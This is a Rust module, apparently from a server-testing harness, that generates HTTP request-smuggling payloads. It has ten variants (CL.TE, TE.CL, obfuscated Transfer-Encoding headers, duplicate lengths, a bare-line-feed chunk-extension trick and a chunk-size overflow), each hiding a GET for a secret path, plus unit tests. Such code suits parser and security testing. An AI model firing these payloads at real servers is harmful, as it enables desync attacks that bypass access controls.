//! The ways to be in doubt about where a body ends.

use guests::attempt::socket::{HOST, bare};

/// One way: the lines about the body's length, and the body, which may hold the hidden request.
pub(crate) struct Way {
    pub(crate) name: &'static str,
    lines: fn(&Body) -> String,
    body: fn(&str) -> String,
}

/// The facts that a line about the length may depend on.
struct Body {
    whole: usize,
    /// The length of the first line with its end.
    line: usize,
}

/// By their names in the trade; `te-te` has two spellings of a second coding.
pub(crate) const WAYS: [Way; 10] = [
    Way {
        name: "cl-te",
        lines: |body| both(body, "Transfer-Encoding: chunked\r\n"),
        body: behind_the_last_chunk,
    },
    Way {
        name: "te-cl",
        lines: |body| format!("Transfer-Encoding: chunked\r\nContent-Length: {}\r\n", body.line),
        body: |hidden| format!("{:x}\r\n{hidden}\r\n0\r\n\r\n", hidden.len()),
    },
    Way {
        name: "te-te",
        lines: |body| both(body, "Transfer-Encoding: chunked, identity\r\n"),
        body: behind_the_last_chunk,
    },
    Way {
        name: "te-te-unknown",
        lines: |body| both(body, "Transfer-Encoding: xchunked\r\n"),
        body: behind_the_last_chunk,
    },
    Way {
        name: "two-lengths",
        lines: |body| format!("Content-Length: {}\r\nContent-Length: {}\r\n", body.line, body.whole),
        body: |hidden| format!("abc\r\n{hidden}"),
    },
    Way {
        name: "bare-lf",
        lines: |body| both(body, "X-Note: a\nTransfer-Encoding: chunked\r\n"),
        body: behind_the_last_chunk,
    },
    Way {
        name: "space-before-colon",
        lines: |body| both(body, "Transfer-Encoding : chunked\r\n"),
        body: behind_the_last_chunk,
    },
    Way {
        name: "obs-fold",
        lines: |body| both(body, "Transfer-Encoding:\r\n chunked\r\n"),
        body: behind_the_last_chunk,
    },
    Way {
        name: "chunk-extension",
        lines: |_| "Transfer-Encoding: chunked\r\n".to_owned(),
        // A reader that ends the first line at the bare line feed reads a chunk of `xx`, and one with the
        // rest. A reader that continues to the next line end takes `xx` for an extension, and gets a chunk
        // with the length of the former second one.
        body: |hidden| {
            let rest = behind_the_last_chunk(hidden);
            let length = format!("{:x}", rest.len());
            format!("{:x};\n{}\r\n{length}\r\n{rest}\r\n0\r\n\r\n", length.len(), "x".repeat(length.len()))
        },
    },
    Way {
        name: "long-chunk-size",
        lines: |_| "Transfer-Encoding: chunked\r\n".to_owned(),
        // 2^64 + 5, which is 5 to who lets it overflow.
        body: |hidden| format!("10000000000000005\r\nabcde\r\n{}", behind_the_last_chunk(hidden)),
    },
];

impl Way {
    /// Returns both requests, from the first byte to the last.
    pub(crate) fn bytes(&self, path: &str, secret: &str) -> String {
        let body = (self.body)(&bare("GET", secret, "Connection: close\r\n"));
        let line = body.find('\n').map_or(0, |at| at + 1);
        let lines = (self.lines)(&Body { whole: body.len(), line });
        format!("POST {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n{lines}\r\n{body}")
    }
}

/// Returns the request with both. By its length, the hidden request is in the body; by its coding, it follows
/// the body.
fn both(body: &Body, coding: &str) -> String {
    format!("Content-Length: {}\r\n{coding}", body.whole)
}

fn behind_the_last_chunk(hidden: &str) -> String {
    format!("0\r\n\r\n{hidden}")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bytes(name: &str) -> String {
        WAYS.iter().find(|way| way.name == name).unwrap().bytes("/p", "/s")
    }

    #[test]
    fn each_way_hides_the_same_request() {
        for way in &WAYS {
            assert!(way.bytes("/p", "/s").contains("GET /s HTTP/1.1\r\n"), "{}", way.name);
        }
    }

    #[test]
    fn the_length_covers_the_hidden_request_where_the_coding_ends_before_it() {
        let bytes = bytes("cl-te");
        let (head, body) = bytes.split_once("\r\n\r\n").unwrap();
        assert!(head.contains(&format!("Content-Length: {}\r\n", body.len())));
        assert!(body.starts_with("0\r\n\r\nGET /s"));
    }

    #[test]
    fn the_length_ends_before_the_hidden_request_where_the_coding_covers_it() {
        let bytes = bytes("te-cl");
        let (head, body) = bytes.split_once("\r\n\r\n").unwrap();
        let length: usize = head.rsplit(' ').next().unwrap().parse().unwrap();
        assert!(body[length..].starts_with("GET /s"));
    }

    #[test]
    fn a_line_feed_alone_hides_the_length_of_a_chunk() {
        let bytes = bytes("chunk-extension");
        let (_, body) = bytes.split_once("\r\n\r\n").unwrap();
        let (first, rest) = body.split_once("\r\n").unwrap();
        let (size, data) = first.split_once(";\n").unwrap();
        assert_eq!(usize::from_str_radix(size, 16).unwrap(), data.len());
        let (length, rest) = rest.split_once("\r\n").unwrap();
        // Read the other way, the length itself is the data of the first chunk.
        assert_eq!(length.len(), data.len());
        let length = usize::from_str_radix(length, 16).unwrap();
        assert_eq!(&rest[length..], "\r\n0\r\n\r\n");
    }
}
